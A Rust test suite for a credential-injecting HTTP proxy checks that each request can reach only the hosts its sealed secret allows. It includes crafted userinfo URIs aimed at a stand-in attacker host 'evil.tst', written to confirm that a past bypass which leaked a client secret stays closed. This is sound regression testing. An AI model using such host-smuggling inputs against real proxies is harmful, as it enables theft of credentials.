//! Host pinning: a request goes to the host it names, and only if its secrets allow that
//! host. On a keep-alive connection each request is judged on its own; an absolute-form
//! URI wins over the Host header (and the upstream sees only the URI's); userinfo, a
//! second Host or none is refused; inside a CONNECT tunnel every request stays on the
//! CONNECT host; a transparent (origin-form) request needs a usable Host and the
//! tokenizer's own names; the proxy speaks only plain HTTP to its clients (`https://` and
//! port 443 are 400); and a sidecar's plain-HTTP passthrough judges every request too.

use std::net::SocketAddr;
use std::sync::Arc;

use hyper_util::rt::TokioIo;
use serde_json::json;

use crate::support::adversary::{
    AUTH, Adversary, CLIENT_SECRET, TOKEN, answer_then_close, assert_no_plaintext, assert_refused,
    assert_refused_sent, auth_lines, env,
};
use crate::support::attack::real;
use crate::support::ca::TestCa;
use crate::support::raw::RawConn;
use crate::support::sidecar::SideProxy;
use crate::support::tokenizer::Tokenizer;
use crate::support::upstream::{Echo, Upstream};
use crate::support::{Env, bearer};

// === keep-alive connections and the request URI ===

/// On a keep-alive connection every request is checked on its own: a secret for
/// api.test does not follow the connection to other.test, and a secret for both does
/// not share a TLS connection across names (each name has its own SNI).
#[tokio::test]
async fn keep_alive_requests_are_validated_one_by_one() {
    let e = env(&[]).await;
    let only_api = e.for_hosts(&["api.test"]);
    let mut conn = RawConn::open(e.tk.addr).await;
    let get = |host: &str, sealed: &str, path: &str| {
        format!(
            "GET http://{host}{path} HTTP/1.1\r\nHost: {host}\r\n{}\r\n",
            auth_lines(sealed)
        )
    };
    conn.send(get("api.test", &only_api, "/one").as_bytes())
        .await;
    assert_eq!(conn.read_response(false).await.status, 200);
    conn.send(get("other.test", &only_api, "/two").as_bytes())
        .await;
    let resp = conn.read_response(false).await;
    assert_refused(
        "other.test",
        resp.status,
        &resp.text(),
        400,
        "secret not valid for other.test",
    );
    // Nor without any secret: the first request's secret is not remembered.
    conn.send(b"GET http://api.test/three HTTP/1.1\r\nHost: api.test\r\n\r\n")
        .await;
    let resp = conn.read_response(false).await;
    assert_refused(
        "no secret",
        resp.status,
        &resp.text(),
        400,
        "missing Proxy-Tokenizer",
    );
    conn.send(get("api.test", &only_api, "/four").as_bytes())
        .await;
    assert_eq!(conn.read_response(false).await.status, 200);
    assert_eq!(e.upstream.seen(), ["GET /one", "GET /four"]);
    assert_eq!(e.upstream.connection_count(), 1);

    let both = e.for_hosts(&["api.test", "other.test"]);
    for (host, path) in [("other.test", "/five"), ("api.test", "/six")] {
        conn.send(get(host, &both, path).as_bytes()).await;
        let resp = conn.read_response(false).await;
        assert_eq!(resp.status, 200, "{}", resp.text());
        assert_eq!(Echo::parse(&resp.text()).header("host").unwrap(), host);
    }
    // api.test reused its pooled connection; other.test got one of its own.
    assert_eq!(e.upstream.connection_count(), 2);
}

/// Absolute-form URI and Host header disagree: the URI wins. Validators check the URI's
/// authority, the upstream is the URI's, and the upstream sees exactly one Host: the
/// URI's. Userinfo in the authority is refused.
#[tokio::test]
async fn the_request_uri_wins_over_the_host_header() {
    let e = env(&[]).await;
    let only_api = e.for_hosts(&["api.test"]);
    let only_other = e.for_hosts(&["other.test"]);
    let send = |uri: &str, hosts: &[&str], sealed: &str| {
        let mut req = format!("GET {uri} HTTP/1.1\r\n");
        for h in hosts {
            req.push_str(&format!("Host: {h}\r\n"));
        }
        req.push_str(&auth_lines(sealed));
        req.push_str("\r\n");
        req
    };
    let mut conn = RawConn::open(e.tk.addr).await;
    // The Host header names a host the secret is valid for; the URI does not.
    conn.send(send("http://api.test/a", &["other.test"], &only_other).as_bytes())
        .await;
    let resp = conn.read_response(false).await;
    assert_refused(
        "host header",
        resp.status,
        &resp.text(),
        400,
        "secret not valid for api.test",
    );
    // The URI's host is allowed: forwarded there, with its Host only.
    for hosts in [vec!["other.test"], vec!["api.test"]] {
        conn.send(send("http://api.test/b", &hosts, &only_api).as_bytes())
            .await;
        let resp = conn.read_response(false).await;
        assert_eq!(resp.status, 200, "{hosts:?}: {}", resp.text());
        let echo = Echo::parse(&resp.text());
        assert_eq!(echo.header_all("host"), ["api.test"], "{hosts:?}");
    }
    // HTTP/1.1 without a Host, or with two: 400, as RFC 9112 §3.2 (and Go) have it.
    for (hosts, why) in [
        (vec![], "missing Host header"),
        (vec!["other.test", "api.test"], "more than one Host header"),
        (vec!["api.test", "other.test"], "more than one Host header"),
    ] {
        conn.send(send("http://api.test/b", &hosts, &only_api).as_bytes())
            .await;
        let resp = conn.read_response(false).await;
        assert_refused("host count", resp.status, &resp.text(), 400, why);
    }
    // Userinfo would let the string the validators see differ from the host dialled.
    for uri in [
        "http://api.test@other.test/c",
        "http://other.test@api.test/c",
        "http://user:pw@api.test/c",
    ] {
        conn.send(send(uri, &["api.test"], &e.good()).as_bytes())
            .await;
        let resp = conn.read_response(false).await;
        assert_refused(uri, resp.status, &resp.text(), 400, "bad host");
    }
    assert_eq!(e.upstream.seen().len(), 2, "{:?}", e.upstream.seen());
}

/// An exchange secret without host rules may only go to its token_url host. Userinfo
/// once fooled that check (`http://tok.test@evil.tst/…`: the check saw the first 8
/// characters, `tok.test`, while the proxy dialled `evil.tst`) and sent the client secret
/// to the attacker's server; in a tunnel too.
#[tokio::test]
async fn userinfo_cannot_redirect_an_exchange_secret() {
    let ca = TestCa::new();
    let evil = Upstream::start(&ca, &["evil.tst"]).await;
    let tok = Upstream::start(&ca, &["tok.test"]).await;
    let pins = format!("{},{}", evil.pin(&["evil.tst"]), tok.pin(&["tok.test"]));
    let tk = Tokenizer::start(&ca, &["--upstream-resolve", &pins]).await;
    let sealed = tk.seal(&json!({
        "client_credentials_processor": {
            "client_id": "adv-client",
            "client_secret": CLIENT_SECRET,
            "token_url": "https://tok.test/token/cc",
        },
        "bearer_auth": bearer(AUTH),
    }));
    let post = |uri: &str, host: &str| {
        format!(
            "POST {uri} HTTP/1.1\r\nHost: {host}\r\n{}Content-Length: 0\r\n\r\n",
            auth_lines(&sealed)
        )
    };
    let mut conn = RawConn::open(tk.addr).await;
    for uri in [
        "http://tok.test@evil.tst/token/cc",
        "http://tok.test:@evil.tst/token/cc",
        "http://evil.tst/token/cc",
    ] {
        conn.send(post(uri, "evil.tst").as_bytes()).await;
        let resp = conn.read_response(false).await;
        assert_eq!(resp.status, 400, "{uri}: {}", resp.text());
        assert_no_plaintext(uri, &resp.text());
    }
    // In a tunnel to evil.tst, an inner Host with userinfo naming the token host.
    let mut tunnel = RawConn::tunnel(tk.addr, "evil.tst:80", &[]).await.unwrap();
    for host in ["tok.test@evil.tst", "tok.test@evil.tst:80"] {
        tunnel.send(post("/token/cc", host).as_bytes()).await;
        let resp = tunnel.read_response(false).await;
        assert_eq!(resp.status, 400, "{host}: {}", resp.text());
        assert_no_plaintext(host, &resp.text());
    }
    assert!(
        evil.seen().is_empty(),
        "the attacker's server was reached: {:?}",
        evil.received()
    );
    // The token host itself still works.
    conn.send(post("http://tok.test/token/cc", "tok.test").as_bytes())
        .await;
    let resp = conn.read_response(false).await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    assert!(resp.text().contains("sealed_token"));
    assert_no_plaintext("exchange", &resp.text());
    assert_eq!(tok.received().len(), 1);
}

/// Inside a CONNECT tunnel every request must name the CONNECT host (the cases with a
/// plainly different Host are in `proxying`): the absolute-form URI wins over the Host
/// header, ports must match, userinfo and nested CONNECTs are refused, and the upstream
/// always sees the tunnel's host.
#[tokio::test]
async fn tunnel_requests_stay_on_the_connect_host() {
    let e = env(&[]).await;
    let sealed = e.for_hosts(&["api.test:80"]);
    let mut conn = e.api_tunnel(&sealed).await;
    // Allowed: the URI names the tunnel host, whatever the Host header says; case and
    // an explicit :80 do not matter.
    for (line, host) in [
        ("GET http://api.test/in-1 HTTP/1.1", "other.test"),
        ("GET /in-2 HTTP/1.1", "API.test"),
        ("GET /in-3 HTTP/1.1", "api.test:80"),
    ] {
        conn.send(format!("{line}\r\nHost: {host}\r\n\r\n").as_bytes())
            .await;
        let resp = conn.read_response(false).await;
        assert_eq!(resp.status, 200, "{line} {host}: {}", resp.text());
        let echo = Echo::parse(&resp.text());
        assert_eq!(echo.header_all("host"), ["api.test"], "{line} {host}");
        assert_eq!(
            echo.header_all("authorization"),
            [format!("Bearer {TOKEN}")]
        );
    }
    // Refused, and the tunnel stays usable.
    for (request, needle) in [
        (
            "GET /x HTTP/1.1\r\nHost: api.test:8080\r\n\r\n".to_owned(),
            "CONNECT authority",
        ),
        (
            "GET /x HTTP/1.1\r\nHost: other.test@api.test\r\n\r\n".to_owned(),
            "CONNECT authority",
        ),
        (
            "GET http://api.test:81/x HTTP/1.1\r\nHost: api.test\r\n\r\n".to_owned(),
            "CONNECT authority",
        ),
        (
            "GET /x HTTP/1.1\r\nHost: api.test.\r\n\r\n".to_owned(),
            "CONNECT authority",
        ),
        (
            format!(
                "CONNECT other.test:80 HTTP/1.1\r\nHost: other.test:80\r\n{}\r\n",
                auth_lines(&sealed)
            ),
            "CONNECT inside a tunnel",
        ),
    ] {
        conn.send(request.as_bytes()).await;
        let resp = conn.read_response(false).await;
        assert_refused(&request, resp.status, &resp.text(), 400, needle);
    }
    conn.send(b"GET /in-4 HTTP/1.1\r\nHost: api.test\r\n\r\n")
        .await;
    assert_eq!(conn.read_response(false).await.status, 200);
    assert_eq!(
        e.upstream.seen(),
        ["GET /in-1", "GET /in-2", "GET /in-3", "GET /in-4"]
    );
}

// === what the client addressed ===

/// The proxy speaks plain HTTP to the upstream's TLS: a client that asks for `https://`,
/// port 443 or another scheme gets 400.
#[tokio::test]
async fn https_and_port_443_are_400() {
    let e = env(&[]).await;
    let good = e.good();
    let (status, body) = e.get_url("http://127.0.0.1:443/", &[&good]).await;
    assert_refused_sent(
        "",
        status,
        &body,
        400,
        "proxied request must be HTTP",
        &[&good],
    );

    let mut conn = RawConn::open(e.tk.addr).await;
    for target in [
        format!("https://{}/", e.host()),
        "https://127.0.0.1/".to_owned(),
        format!("ftp://{}/", e.host()),
    ] {
        conn.send(
            format!(
                "GET {target} HTTP/1.1\r\nHost: {}\r\nProxy-Tokenizer: {good}\r\n\
                 Proxy-Authorization: Bearer {AUTH}\r\n\r\n",
                e.host()
            )
            .as_bytes(),
        )
        .await;
        let resp = conn.read_response(false).await;
        assert_refused_sent(&target, resp.status, &resp.text(), 400, "", &[&good]);
        if target.starts_with("https") {
            assert!(resp.text().contains("proxied request must be HTTP"));
        }
    }
    e.unharmed().await;
}

// === transparent (origin-form) mode ===

/// Without `--tokenizer-hostnames`, an origin-form request is not proxied.
#[tokio::test]
async fn origin_form_without_tokenizer_hostnames_is_400() {
    let e = env(&[]).await;
    let good = e.good();
    let mut conn = RawConn::open(e.tk.addr).await;
    conn.send(
        format!(
            "GET / HTTP/1.1\r\nHost: {}\r\nProxy-Tokenizer: {good}\r\n\
             Proxy-Authorization: Bearer {AUTH}\r\n\r\n",
            e.host()
        )
        .as_bytes(),
    )
    .await;
    let resp = conn.read_response(false).await;
    assert_refused_sent(
        "",
        resp.status,
        &resp.text(),
        400,
        "I'm not that kind of server",
        &[&good],
    );
    e.unharmed().await;
}

/// A transparent request needs a Host that names somewhere else: none, one that is not
/// text, the tokenizer's own name, port 443 or no host at all are 400.
#[tokio::test]
async fn origin_form_without_a_usable_host_is_400() {
    let e = env(&["--tokenizer-hostnames", "tokenizer.test"]).await;
    let good = e.good();
    let auth = format!("Proxy-Tokenizer: {good}\r\nProxy-Authorization: Bearer {AUTH}\r\n");

    // HTTP/1.0 lets a request omit Host.
    let (status, text) = answer_then_close(
        e.tk.addr,
        format!("GET / HTTP/1.0\r\n{auth}\r\n").as_bytes(),
    )
    .await
    .expect("an answer");
    let body = text.split("\r\n\r\n").nth(1).unwrap_or_default();
    assert_refused_sent("", status, body, 400, "must specify host", &[&good]);

    // A Host that is not text is no host at all.
    let mut req = b"GET / HTTP/1.0\r\nHost: \xff\xfe\r\n".to_vec();
    req.extend_from_slice(auth.as_bytes());
    req.extend_from_slice(b"\r\n");
    let (status, text) = answer_then_close(e.tk.addr, &req).await.expect("an answer");
    let body = text.split("\r\n\r\n").nth(1).unwrap_or_default();
    assert_refused_sent("", status, body, 400, "must specify host", &[&good]);

    let mut conn = RawConn::open(e.tk.addr).await;
    for (host, needle) in [
        ("tokenizer.test", "circular request"),
        ("tokenizer.test:8080", "circular request"),
        ("127.0.0.1:443", "proxied request must be HTTP"),
        ("bad host!", "bad host"),
    ] {
        conn.send(format!("GET / HTTP/1.1\r\nHost: {host}\r\n{auth}\r\n").as_bytes())
            .await;
        let resp = conn.read_response(false).await;
        assert_refused_sent(host, resp.status, &resp.text(), 400, needle, &[&good]);
    }
    e.upstream_untouched();

    // A good transparent request on the same connection still works.
    conn.send(format!("GET / HTTP/1.1\r\nHost: {}\r\n{auth}\r\n", e.host()).as_bytes())
        .await;
    let resp = conn.read_response(false).await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    let echo = Echo::parse(&resp.text());
    assert_eq!(
        echo.header("authorization").unwrap(),
        format!("Bearer {TOKEN}")
    );
    e.still_serves().await;
}

// === a plain-HTTP passthrough ===

/// A plain HTTP server on 127.0.0.1:0 answering with the Host it was sent; the Hosts seen.
async fn plain_http_server() -> (SocketAddr, Arc<std::sync::Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((tcp, _)) = listener.accept().await else {
                continue;
            };
            let log = log.clone();
            tokio::spawn(async move {
                let svc =
                    hyper::service::service_fn(move |req: http::Request<hyper::body::Incoming>| {
                        let host = req
                            .headers()
                            .get_all("host")
                            .iter()
                            .map(|h| h.to_str().unwrap_or("?").to_owned())
                            .collect::<Vec<_>>()
                            .join(",");
                        log.lock().unwrap().push(format!("{host} {}", req.uri()));
                        async move {
                            Ok::<_, std::convert::Infallible>(http::Response::new(
                                http_body_util::Full::new(bytes::Bytes::from(format!(
                                    "host={host}"
                                ))),
                            ))
                        }
                    });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(tcp), svc)
                    .await;
            });
        }
    });
    (addr, seen)
}

/// Second outside attack (issue 22), finding 11: on a sidecar's plain-HTTP passthrough,
/// every keep-alive request's host is judged, not only the first.
#[tokio::test(flavor = "multi_thread")]
async fn every_request_on_a_plain_http_passthrough_is_judged() {
    let e = Env::builder().names(&["api.test"]).start().await;
    let (plain, seen) = plain_http_server().await;
    let sealed = e.seal(&real(json!({"allowed_hosts": ["api.test"]})));
    let pin = format!("plain.test:80={plain}");
    let side = SideProxy::start(
        &[
            "--targets",
            "api.test=API_SEALED",
            "--proxy",
            &e.tk.proxy_url(),
            "--https-proxy-address",
            "127.0.0.1:0",
            "--passthrough",
            "plain.test:80",
            "--upstream-resolve",
            &pin,
            "--upstream-allow-cidrs",
            "127.0.0.0/8",
            "--admin-address",
            "127.0.0.1:0",
        ],
        &[("API_SEALED", &sealed)],
    )
    .await;
    let proxy = side.proxy_addr.unwrap();
    let mut tunnel = RawConn::tunnel(proxy, "plain.test:80", &[])
        .await
        .expect("CONNECT");
    let mut ask = async |req: &str| {
        tunnel.send(req.as_bytes()).await;
        tunnel.read_response(false).await
    };
    let first = ask("GET /a HTTP/1.1\r\nHost: plain.test\r\n\r\n").await;
    assert_eq!(
        (first.status, first.text()),
        (200, "host=plain.test".to_owned())
    );
    // A second keep-alive request to another site sharing the address.
    let other = ask("GET /b HTTP/1.1\r\nHost: other.example\r\n\r\n").await;
    assert_eq!(other.status, 403, "{}", other.text());
    let absolute = ask("GET http://other.example/c HTTP/1.1\r\nHost: plain.test\r\n\r\n").await;
    assert_eq!(absolute.status, 403, "{}", absolute.text());
    let two = ask("GET /d HTTP/1.1\r\nHost: plain.test\r\nHost: other.example\r\n\r\n").await;
    assert_eq!(two.status, 400, "{}", two.text());
    // The right host again, on the same connection.
    let again = ask("GET /e HTTP/1.1\r\nHost: plain.test:80\r\n\r\n").await;
    assert_eq!(again.status, 200);
    let seen = seen.lock().unwrap().clone();
    assert_eq!(
        seen,
        ["plain.test /a", "plain.test:80 /e"],
        "the upstream saw {seen:?}"
    );
    let audit = crate::support::admin::Admin::new(side.admin_addr.unwrap())
        .audit("", 5)
        .await;
    assert!(
        audit
            .iter()
            .any(|x| x["decision"] == "denied" && x.to_string().contains("other.example")),
        "{audit:?}"
    );
}
